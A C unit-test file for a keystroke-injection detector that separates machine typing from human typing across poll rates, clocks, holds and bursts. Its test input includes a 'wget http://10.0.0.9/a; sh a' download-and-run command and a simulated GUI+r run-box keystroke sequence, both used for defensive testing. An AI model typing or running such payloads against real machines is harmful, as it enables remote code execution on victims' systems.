/* Machines that must be found: by how many keys, on which polls and clocks, and after how much of a person. */
#include <stdarg.h>
#include <setjmp.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include "typing_feed.h"

enum { KEYS_MAX = 400, EDGES_MAX = KEYS_MAX * TYPIST_EDGES_PER_KEY, REPORTS_MAX = KEYS_MAX * 4 };

static const int64_t MS = 1000000;
static struct key_edge edge[EDGES_MAX];
static struct key_report report[REPORTS_MAX];

/* A tool of one's own: letters, no two alike in a row, the interval low..high ms, the hold as given. */
static size_t tap(size_t from, int64_t *at_ns, unsigned keys, double low_ms, double high_ms,
                  double hold_ms, struct random *r)
{
	for (unsigned i = 0; i < keys; i++) {
		uint8_t usage = (uint8_t)(0x04 + (from / 2 * 7) % 23);
		int64_t hold = (int64_t)(hold_ms * (double)MS);

		edge[from] = (struct key_edge){*at_ns, (uint32_t)from, usage, true};
		edge[from + 1] = (struct key_edge){*at_ns + hold, (uint32_t)from + 1, usage, false};
		from += 2;
		*at_ns += (int64_t)(random_uniform(r, low_ms, high_ms) * (double)MS);
	}
	return from;
}

static struct feed_result judge(const struct feed *f, size_t edges)
{
	size_t n = feed_render(f, edge, edges, report, REPORTS_MAX);

	return feed_judge(f, report, n, 0, 0);
}

static uint32_t tapped(double poll_ms, double clock_ms, unsigned keys, double low, double high,
                       double hold)
{
	struct feed f = {.poll_ms = poll_ms, .clock_ms = clock_ms, .machine = true, .seed = 5};
	struct random r;
	int64_t at = 0;

	random_init(&r, (uint64_t)(low * 100 + high));
	return judge(&f, tap(0, &at, keys, low, high, hold, &r)).first_key;
}

static void assert_by_at(uint32_t key, uint32_t most, int line)
{
	if (!key || key > most)
		print_message("line %d: key %u, not by %u\n", line, key, most);
	assert_in_range(key, 1, most);
}

#define assert_by(key, most) assert_by_at(key, most, __LINE__)

static void quick_keys_by_the_fifth(void **state)
{
	static const double polls[] = {1, 2, 4, 8, 10};

	(void)state;
	for (unsigned i = 0; i < 5; i++) {
		double poll = polls[i];

		assert_by(tapped(poll, 0, 30, 2 * poll, 2 * poll, poll), 5);
		assert_by(tapped(poll, 0, 30, 30, 30, poll), 5);
		assert_by(tapped(poll, 0, 30, 40 - poll, 40 - poll, poll), 5);
		assert_by(tapped(poll, 0, 30, 2 * poll, 45 - poll, poll), 6);
	}
}

static void fixed_delay_by_the_eighth(void **state)
{
	static const double polls[] = {1, 2, 4, 8, 10};

	(void)state;
	for (unsigned i = 0; i < 5; i++)
		for (double delay = 60; delay < 400; delay += 37)
			assert_by(tapped(polls[i], 0, 40, delay, delay, polls[i]), 10);
}

/* Holds that are long enough for fingers, but all alike. */
static void fixed_delay_and_long_fixed_hold(void **state)
{
	(void)state;
	assert_by(tapped(1, 0, 60, 120, 120, 60), 16);
	assert_by(tapped(8, 0, 60, 120, 120, 60), 26);
}

static void jitter_and_constant_hold(void **state)
{
	(void)state;
	assert_by(tapped(8, 0, 60, 50, 70, 8), 15);
	assert_by(tapped(8, 0, 60, 100, 120, 8), 17);
	assert_by(tapped(1, 0, 60, 100, 120, 1), 17);
	assert_by(tapped(8, 0, 60, 80, 250, 8), 25);
	assert_by(tapped(1, 0, 60, 80, 250, 1), 25);
}

/* One key, or two in turn, struck again and again: faster than a switch or a finger can. */
static void the_same_keys_again(void **state)
{
	struct feed f = {.poll_ms = 8, .machine = true};
	int64_t hold_ms[] = {8, 8, 16};

	(void)state;
	for (unsigned n = 0; n < 3; n++) {
		for (size_t i = 0; i < 40; i++) {
			uint8_t usage = n == 1 ? (uint8_t)(0x04 + i % 2) : 0x04;
			int64_t at = (int64_t)i * (n == 1 ? 8 : 24) * MS;

			edge[2 * i] = (struct key_edge){at, (uint32_t)(2 * i), usage, true};
			edge[2 * i + 1] = (struct key_edge){at + hold_ms[n] * MS,
			                                    (uint32_t)(2 * i + 1), usage, false};
		}
		assert_by(judge(&f, 80).first_key, 20);
	}
}

/* A keyboard that is polled faster than it says, or than what it says was read as. */
static void faster_than_declared(void **state)
{
	struct feed f = {.poll_ms = 1, .machine = true}, declared = {.poll_ms = 8};
	struct random r;
	int64_t at = 0;
	size_t n;

	(void)state;
	random_init(&r, 3);
	n = feed_render(&f, edge, tap(0, &at, 60, 2, 2, 1, &r), report, REPORTS_MAX);
	assert_by(feed_judge(&declared, report, n, 0, 0).first_key, 15);
}

static void coarse_clock(void **state)
{
	(void)state;
	assert_by(tapped(8, 15.6, 60, 16, 16, 8), 12);
	assert_by(tapped(8, 15.6, 60, 120, 120, 8), 30);
	assert_by(tapped(8, 15.6, 100, 80, 200, 8), 60);
}

/* Runs of the simulator's rungs found by this key. */
static unsigned rung_found(unsigned rung, double poll_ms, unsigned runs, uint32_t by)
{
	static const char text[] = "wget http://10.0.0.9/a; sh a; echo Done And Gone; exit now";
	static struct keystroke key[KEYS_MAX];
	size_t keys = us_keystrokes(text, false, key, KEYS_MAX);
	unsigned found = 0;

	for (unsigned seed = 0; seed < runs; seed++) {
		struct feed f = {.poll_ms = poll_ms, .machine = true, .seed = seed};
		struct feed_result result;
		struct typist t;
		struct random r;

		random_init(&r, seed * 31 + rung);
		typist_rung(&t, rung, (int64_t)(poll_ms * 1e6), NULL, 0, &r);
		result = judge(&f, typist_type(&t, &r, key, keys, 0, edge, EDGES_MAX));
		found += result.first_key && result.first_key <= by;
	}
	return found;
}

static void ladder(void **state)
{
	(void)state;
	assert_true(rung_found(0, 8, 20, 6) >= 19);
	assert_true(rung_found(1, 8, 20, 11) >= 19);
	assert_true(rung_found(2, 8, 20, 25) >= 19);
	assert_true(rung_found(3, 8, 20, 28) >= 18);
	assert_true(rung_found(0, 1, 20, 6) >= 19);
	assert_true(rung_found(1, 1, 20, 11) >= 19);
}

static size_t person(uint64_t seed, int64_t *at_ns)
{
	static const char text[] = "i write a line or two of my own before anything else happens "
				   "here, and then some more of it so that the record is long";
	static struct keystroke key[KEYS_MAX];
	struct typist t;
	struct random r;
	size_t n;

	random_init(&r, seed);
	typist_person(&t, &r);
	n = typist_type(&t, &r, key, us_keystrokes(text, false, key, KEYS_MAX), 0, edge, EDGES_MAX);
	*at_ns = edge[n - 1].t_ns;
	return n;
}

/* A stretch of a person's typing buys nothing: what follows is found, at once after a pause, a little later without. */
static void injection_after_a_person(void **state)
{
	(void)state;
	for (uint64_t seed = 1; seed <= 8; seed++) {
		struct feed f = {.poll_ms = 8, .seed = seed};
		struct feed_result r;
		struct random random;
		int64_t at;
		size_t n = person(seed, &at);
		uint32_t before;

		random_init(&random, seed);
		r = judge(&f, n);
		before = r.keys;
		assert_int_equal(r.first_key, 0);
		at += 200 * MS;
		n = tap(n, &at, 40, 16, 16, 8, &random);
		assert_by(judge(&f, n).first_key, before + 26);

		n = person(seed, &at);
		at += 30000 * MS;
		n = tap(n, &at, 40, 16, 16, 8, &random);
		assert_by(judge(&f, n).first_key, before + 8);
	}
}

/* Where the ratio stands at zero nothing is owed: no feature keeps a debt that an attack would have to pay off. */
static void nothing_is_owed_at_zero(void **state)
{
	struct typing_context c = {.poll_ns = 8000000, .configured_ns = -1, .led_ns = -1};
	struct feed f = {.poll_ms = 8, .seed = 2};
	struct typing t = {0};
	unsigned zeros = 0;
	int64_t at;
	size_t n = feed_render(&f, edge, person(2, &at), report, REPORTS_MAX);

	(void)state;
	typing_init(&t);
	for (size_t i = 0; i < n; i++) {
		typing_report(&t, &report[i], &c);
		if (t.step.ratio > 0)
			continue;
		zeros++;
		assert_int_equal(t.run.keys, 0);
		for (unsigned k = 0; k < TYPING_FEATURES; k++)
			assert_true(t.run.sum[k] == 0);
	}
	assert_true(zeros > n / 3);
}

/* Ten keys at once may be a stalled host's, but not where they open a run box. */
static void a_run_box_in_a_burst(void **state)
{
	struct feed f = {.poll_ms = 8, .machine = true, .seed = 4};
	struct random random;
	unsigned found = 0;

	(void)state;
	for (unsigned opens = 0; opens < 2; opens++)
		for (unsigned seed = 1; seed <= 10; seed++) {
			int64_t at;
			size_t n = person(seed, &at);

			random_init(&random, seed);
			at += 400 * MS;
			if (opens) {
				/* GUI and r. */
				edge[n++] = (struct key_edge){at, (uint32_t)n, 0xe3, true};
				edge[n++] = (struct key_edge){at, (uint32_t)n, 0x15, true};
				edge[n++] =
					(struct key_edge){at + 8 * MS, (uint32_t)n, 0x15, false};
				edge[n++] =
					(struct key_edge){at + 8 * MS, (uint32_t)n, 0xe3, false};
				at += 16 * MS;
			}
			n = tap(n, &at, 11, 16, 16, 8, &random);
			found += judge(&f, n).first_key > 0;
			assert_true(opens || !found);
		}
	assert_in_range(found, 9, 10);
}

/* A key of a person's between bursts does not hide them. */
static void mixed_with_a_person(void **state)
{
	struct feed f = {.poll_ms = 8, .seed = 3};
	struct random random;
	int64_t at;
	size_t n = person(3, &at);
	uint32_t before = judge(&f, n).keys;

	(void)state;
	random_init(&random, 3);
	at += 300 * MS;
	for (unsigned burst = 0; burst < 10; burst++) {
		n = tap(n, &at, 6, 16, 16, 8, &random);
		n = tap(n, &at, 1, 150, 150, 90, &random);
	}
	assert_by(judge(&f, n).first_key, before + 40);
}

static void decisive_needs_forty_keys(void **state)
{
	struct feed f = {.poll_ms = 8, .machine = true};
	struct feed_result r;
	struct random random;
	int64_t at = 0;

	(void)state;
	random_init(&random, 1);
	r = judge(&f, tap(0, &at, 39, 16, 16, 8, &random));
	assert_true(r.first_key > 0);
	assert_int_equal(r.second_key, 0);
	at = 0;
	r = judge(&f, tap(0, &at, 60, 16, 16, 8, &random));
	assert_in_range(r.second_key, 40, 45);
}

/* A person's last keys may stand a little above zero: they do not make a macro of 38 keys one of forty. */
static void a_macro_after_a_person_is_not_decisive(void **state)
{
	unsigned found = 0, above = 0;

	(void)state;
	for (uint64_t seed = 1; seed <= 60; seed++) {
		struct feed f = {.poll_ms = 1, .seed = seed};
		struct feed_result r;
		struct random random;
		int64_t at;
		size_t n = person(seed, &at);

		random_init(&random, seed);
		at += 100 * MS;
		n = tap(n, &at, 38, 2, 2, 1, &random);
		r = judge(&f, n);
		found += r.first_key > 0;
		above += r.keys_since_zero > 40;
		assert_int_equal(r.second_key, 0);
	}
	assert_int_equal(found, 60);
	assert_true(above > 0);
}

/* A tool that presses the next keys before it lets the first go, as hands do, at an even pace. */
static uint32_t rolled(double poll_ms, double clock_ms, unsigned keys, double gap, double hold)
{
	struct feed f = {.poll_ms = poll_ms, .clock_ms = clock_ms, .seed = 5};
	struct random r;
	int64_t at = 0;
	size_t n;

	random_init(&r, 1);
	n = tap(0, &at, keys, gap, gap, hold, &r);
	feed_sort(edge, n);
	return judge(&f, n).first_key;
}

static void keys_that_overlap(void **state)
{
	(void)state;
	/* Two keys in each report, and more: beyond ten fingers, then beyond their pace. */
	assert_by(rolled(8, 0, 104, 8, 16), 70);
	assert_by(rolled(8, 0, 104, 8, 24), 70);
	assert_by(rolled(1, 0, 104, 8, 16), 70);
	assert_by(rolled(8, 0, 150, 16, 80), 80);
	assert_by(rolled(8, 0, 150, 24, 80), 80);
	assert_by(rolled(8, 0, 150, 40, 90), 80);
	assert_by(rolled(1, 0, 150, 30, 75), 80);
}

/* Intervals as wide as a person's, and each hold as long as the last, whatever its length. */
static void a_hold_that_never_changes(void **state)
{
	static const double polls[] = {1, 2, 4, 8};

	(void)state;
	for (unsigned i = 0; i < 4; i++)
		for (double hold = 24; hold <= 120; hold += 16)
			assert_by(tapped(polls[i], 0, 60, 130, 330, hold), 32);
}

/* No feature decides alone: each cap stays below the first threshold. */
static void caps(void **state)
{
	(void)state;
	for (unsigned i = 0; i < TYPING_FEATURES; i++) {
		assert_true(typing_bounds[i].cap < typing_parameters.first_threshold);
		assert_true(typing_bounds[i].floor <= 0);
		assert_true(typing_bounds[i].name && *typing_bounds[i].name);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(quick_keys_by_the_fifth),
		cmocka_unit_test(fixed_delay_by_the_eighth),
		cmocka_unit_test(fixed_delay_and_long_fixed_hold),
		cmocka_unit_test(jitter_and_constant_hold),
		cmocka_unit_test(the_same_keys_again),
		cmocka_unit_test(faster_than_declared),
		cmocka_unit_test(coarse_clock),
		cmocka_unit_test(ladder),
		cmocka_unit_test(injection_after_a_person),
		cmocka_unit_test(nothing_is_owed_at_zero),
		cmocka_unit_test(a_run_box_in_a_burst),
		cmocka_unit_test(mixed_with_a_person),
		cmocka_unit_test(decisive_needs_forty_keys),
		cmocka_unit_test(a_macro_after_a_person_is_not_decisive),
		cmocka_unit_test(keys_that_overlap),
		cmocka_unit_test(a_hold_that_never_changes),
		cmocka_unit_test(caps),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
